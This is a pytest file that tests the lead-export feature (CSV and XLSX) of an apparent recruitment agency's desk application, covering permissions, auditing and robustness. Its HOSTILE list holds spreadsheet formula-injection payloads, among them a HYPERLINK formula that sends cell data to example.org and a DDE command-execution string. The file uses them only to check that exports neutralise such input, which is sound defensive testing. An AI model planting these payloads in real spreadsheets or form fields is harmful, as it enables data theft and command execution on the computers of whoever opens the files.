import csv
import io
import os
import threading
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from html import unescape
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook

from agency.core.enquiry import Kind
from agency.core.roles import Role
from agency.storage.models import AuditEntry, Lead, Stage
from agency.storage.unit import OpenUnit
from tests.factories import MONDAY, a_cv, a_lead
from tests.web.desk.people import Browser, Office, a_token
from web.desk.exports.files import harmless

HOSTILE = [
    '=HYPERLINK("https://example.org/?"&A1,"Click")',
    "+44+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\r\n@now()",
    "＝1+1",
    "  =1+1",
    "\u202e=1+1",
    'Jo, "the \x07best";\nsecond line',
    "ok\ud800\ufffe",
]


@pytest.fixture
def system(address: str) -> Iterator[httpx.Client]:
    """One of the agency's own systems."""
    with httpx.Client(base_url=address, timeout=30) as client:
        yield client


def from_csv(answer: httpx.Response) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def from_xlsx(answer: httpx.Response) -> list[dict[str, object]]:
    assert answer.status_code == 200, answer.text
    sheet = load_workbook(io.BytesIO(answer.content)).active
    headings, *rows = sheet.iter_rows()
    for row in rows:
        assert "f" not in {cell.data_type for cell in row}
    return [
        {head.value: cell.value for head, cell in zip(headings, row, strict=True)} for row in rows
    ]


def names_on(page: str) -> list[str]:
    headings = page.split('<h2><a href="')[1:]
    return [unescape(each.partition("</a>")[0].partition(">")[2]) for each in headings]


def deeds(open_unit: OpenUnit) -> list[tuple[str, str, str, str]]:
    with open_unit() as session:
        return [
            (each.who, each.did, each.kind, each.subject)
            for each in session.query(AuditEntry).order_by(AuditEntry.id)
            if each.did.startswith(("exported", "took"))
        ]


def test_a_list_is_saved_as_it_is_shown_and_that_is_written_down(
    browser: Browser, office: Office, open_unit: OpenUnit
):
    with open_unit() as session:
        for number in range(60):
            a_lead(session, name=f"Person {number:02}", now=MONDAY + timedelta(minutes=number))
        a_lead(session, name="Sam Senco", role=Role.SENCO, town="Leeds", postcode="LS1 1AA")
        promised = session.query(Lead).filter_by(id=30).one().promise
        promised.due_at = promised.call_at = MONDAY
        session.query(Lead).filter_by(id=40).one().promise.kept_at = MONDAY
    browser.signs_in(office.mo)
    here = "/desk/?whose=everyone&role=sen_support_worker&branch=manchester&stage=new&q=person"
    page = browser.opens(here).text
    shown = names_on(page)
    older = unescape(page.partition('<a class="button second" href="')[2].partition('"')[0])
    shown += names_on(browser.opens(older).text)

    links = [unescape(part.partition('"')[0]) for part in page.split('<a href="')]
    for suffix, read in (("csv", from_csv), ("xlsx", from_xlsx)):
        link = next(each for each in links if f"/desk/leads.{suffix}" in each)
        answer = browser.opens(link)
        rows = read(answer)
        assert [row["Name"] for row in rows] == shown
        assert len(set(shown)) == 60
        assert answer.headers["content-disposition"] == (
            f'attachment; filename="leads-2026-03-02.{suffix}"'
        )
        assert answer.headers["cache-control"] == "no-store"
        assert int(answer.headers["content-length"]) == len(answer.content)
    told = (
        "whose=everyone, stage=new, role=sen_support_worker, branch=manchester, q=(not kept); "
        "L-0002 to L-0061"
    )
    assert [each for each in deeds(open_unit) if each[1] != "searched"] == [
        (office.mo, "exported 60 leads as CSV", "leads", told),
        (office.mo, "exported 60 leads as XLSX", "leads", told),
    ]


def test_a_row_says_what_the_lead_says(browser: Browser, office: Office, open_unit: OpenUnit):
    with open_unit() as session:
        lead = a_lead(
            session,
            name="Zoë Ní Bhriain – 李",
            phone="+441614960123;ext=204",
            now=datetime(2026, 7, 1, 9, 5, tzinfo=UTC),
        )
        a_cv(session, lead.conversation, candidate_id=lead.candidate_id)
        reference = lead.reference
    browser.signs_in(office.ada)

    table = from_xlsx(browser.opens("/desk/leads.xlsx"))
    text = from_csv(browser.opens("/desk/leads.csv"))
    table.sort(key=lambda row: row["Reference"] == office.lead)
    text.sort(key=lambda row: row["Reference"] == office.lead)

    assert [row["Reference"] for row in table] == [reference, office.lead]
    for row in (table[0], text[0]):
        assert row["Name"] == "Zoë Ní Bhriain – 李"
        assert row["Role"] == "SEND support worker"
        assert row["Stage"] == "New"
        assert row["DBS"] == "On the update service"
        assert row["Qualifications"] == "Level 3 in childcare or early years"
        assert row["CV"] == "Yes"
        assert row["Owner"] == "Ada"
        assert row["Privacy notice"] == "2026-11"
    assert table[0]["Phone"] == "+441614960123 ext 204"
    assert table[1]["Phone"] == "+447700900123"
    assert text[1]["Phone"] == "'+447700900123"
    assert table[0]["Experience (years)"] == 3.5
    assert table[0]["Opened (UK time)"] == datetime(2026, 7, 1, 10, 5)  # noqa: DTZ001 (as in Excel)
    assert text[0]["Opened (UK time)"] == "2026-07-01 10:05"


@pytest.mark.parametrize("wrote", HOSTILE)
def test_what_strangers_wrote_is_never_a_formula(
    browser: Browser, office: Office, open_unit: OpenUnit, wrote: str
):
    kept = wrote.replace("\ud800", "")
    with open_unit() as session:
        a_lead(
            session,
            name=kept,
            town=kept,
            phone=kept,
            qualifications=(kept, kept),
            question=kept,
            availability=kept,
        )
    browser.signs_in(office.ada)

    for row in (
        from_csv(browser.opens("/desk/leads.csv"))[0],
        from_xlsx(browser.opens("/desk/leads.xlsx"))[0],
    ):
        cells = [value for value in row.values() if isinstance(value, str)]
        assert len(cells) >= 15
        assert not [each for each in cells if each[:1] in {*"=+-@\t\r\n＝＋－＠"}]
        assert row["Stage"] == "New"
        assert row["Name"] == harmless(wrote)


def test_harmless_text_stays_as_it_was_written():
    for said in ("Jo O'Brien", "Zoë", "a=b", "3-4 days", "x" * 16_000, "“quoted”", ""):
        assert harmless(said) == said
    assert len(harmless("=" + "x" * 40_000)) < 32_767


@pytest.mark.parametrize(
    ("who", "whose", "status"),
    [
        ("ada", "mine", 200),
        ("ada", "team", 403),
        ("ada", "everyone", 403),
        ("mo", "mine", 200),
        ("mo", "team", 200),
        ("mo", "everyone", 200),
        ("pia", "mine", 403),
        ("pia", "everyone", 403),
        ("ed", "mine", 403),
    ],
)
def test_who_may_take_which_list_away(
    browser: Browser, office: Office, open_unit: OpenUnit, who: str, whose: str, status: int
):
    browser.signs_in(getattr(office, who))

    for suffix in ("csv", "xlsx"):
        answer = browser.opens(f"/desk/leads.{suffix}?whose={whose}")
        assert answer.status_code == status
        if status == 403:
            assert "You may read these leads, not take them away" in answer.text
            assert "Jo O" not in answer.text
    assert ("leads.csv" in browser.opens(f"/desk/?whose={whose}").text) is (
        status == 200 and (who, whose) != ("mo", "mine")
    )
    assert len(deeds(open_unit)) == (2 if status == 200 else 0)


def test_a_consultants_list_holds_their_own_leads_whatever_the_address_says(
    browser: Browser, office: Office, open_unit: OpenUnit
):
    with open_unit() as session:
        a_lead(session, name="In Leeds", town="Leeds", postcode="LS1 1AA")
    browser.signs_in(office.cleo)

    rows = from_csv(browser.opens("/desk/leads.csv?owner_id=1&branch=manchester"))
    own = from_csv(browser.opens("/desk/leads.csv?owner_id=1&cursor=1"))

    assert rows == []
    assert [row["Name"] for row in own] == ["In Leeds"]


def test_nobody_who_is_not_signed_in_gets_a_list(browser: Browser, office: Office):
    answer = browser.client.get("/desk/leads.csv")

    assert answer.status_code == 303
    assert answer.headers["location"].startswith("/desk/sign-in")
    assert browser.client.get("/desk/leads.pdf").status_code in {303, 400, 404}


def test_another_site_cannot_have_a_list_made(browser: Browser, office: Office):
    browser.signs_in(office.mo)

    answer = browser.client.get("/desk/leads.csv", headers={"Sec-Fetch-Site": "cross-site"})

    assert answer.status_code == 403


def test_a_list_too_large_for_memory_is_made_while_others_write(
    browser: Browser, office: Office, open_unit: OpenUnit, tmp_path: Path
):
    with open_unit() as session:
        for number in range(1200):
            a_lead(session, name=f"Person {number}")
    browser.signs_in(office.mo)
    answers: list[httpx.Response] = []
    thread = threading.Thread(
        target=lambda: answers.append(browser.opens("/desk/leads.xlsx?whose=everyone"))
    )

    thread.start()
    written = 0
    while thread.is_alive():
        with open_unit() as session:
            a_lead(session, name=f"Meanwhile {written}")
        written += 1
        thread.join(0.02)

    names = [row["Name"] for row in from_xlsx(answers[0])]
    assert written > 1
    assert len(names) == len(set(names)) >= 1201
    whole = [f"Person {number}" for number in range(1199, -1, -1)]
    assert [name for name in names if str(name).startswith("Person")] == whole
    assert list(tmp_path.glob("export-*")) == []


def test_what_a_power_cut_left_of_a_list_goes_with_the_next(
    browser: Browser, office: Office, tmp_path: Path
):
    left, now_made = tmp_path / "export-old", tmp_path / "export-new"
    for each in (left, now_made):
        each.mkdir()
        (each / "rows").write_text("Jo O'Brien")
    os.utime(left, (0, 0))
    browser.signs_in(office.mo)

    assert browser.opens("/desk/leads.xlsx").status_code == 200

    assert not left.exists()
    assert now_made.exists()


def test_the_api_gives_the_same_lists(system: httpx.Client, office: Office, open_unit: OpenUnit):
    with open_unit() as session:
        a_lead(session, name="Kit Moved", role=Role.SENCO).stage = Stage.CONTACTED
    headers = a_token(open_unit, "leads:read")
    writes = a_token(open_unit, "leads:write")

    def names(suffix: str, **query: str) -> list[object]:
        answer = system.get(f"/api/v1/leads.{suffix}", headers=headers, params=query)
        return [row["Name"] for row in (from_csv if suffix == "csv" else from_xlsx)(answer)]

    for suffix in ("csv", "xlsx"):
        assert names(suffix) == ["Kit Moved", "Jo O'Brien"]
        assert names(suffix, role="senco") == ["Kit Moved"]
        assert names(suffix, since="2026-03-03T00:00:00Z") == []
        path = f"/api/v1/leads.{suffix}"
        assert system.get(path).status_code == 401
        assert system.get(path, headers=writes).json()["code"] == "scope_missing"
        assert system.get(f"{path}?stage=old", headers=headers).status_code == 422
    assert system.get("/api/v1/leads.pdf", headers=headers).status_code == 422
    assert deeds(open_unit)[0] == (
        "token payroll",
        "exported 2 leads as CSV",
        "leads",
        "all leads; L-0001 to L-0002",
    )


def test_a_school_that_wants_staff_is_in_the_list_and_has_no_json_resume(
    browser: Browser, system: httpx.Client, office: Office, open_unit: OpenUnit
):
    with open_unit() as session:
        school = a_lead(session, kind=Kind.CLIENT, name="A Head").reference
    browser.signs_in(office.mo)
    headers = a_token(open_unit, "leads:read")

    assert from_csv(browser.opens("/desk/leads.csv?whose=everyone"))[0]["Kind"] == "Wants staff"
    assert browser.opens(f"/desk/leads/{school}/resume.json").status_code == 404
    assert "resume.json" not in browser.opens(f"/desk/leads/{school}").text
    refused = system.get(f"/api/v1/leads/{school}/resume", headers=headers)
    assert (refused.status_code, refused.json()["code"]) == (404, "no_resume")
    assert browser.opens(f"/desk/leads/{school}/contact.vcf").status_code == 200


def test_two_lists_at_once_are_made_one_after_the_other(
    another_browser: Callable[[], Browser], office: Office, open_unit: OpenUnit
):
    browsers = [another_browser() for _ in range(3)]
    for browser in browsers:
        browser.signs_in(office.mo)
    answers: list[httpx.Response] = []
    threads = [
        threading.Thread(
            target=lambda b=browser: answers.append(b.opens("/desk/leads.xlsx?whose=everyone"))
        )
        for browser in browsers
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    assert [len(from_xlsx(answer)) for answer in answers] == [1, 1, 1]
    assert len(deeds(open_unit)) == 3
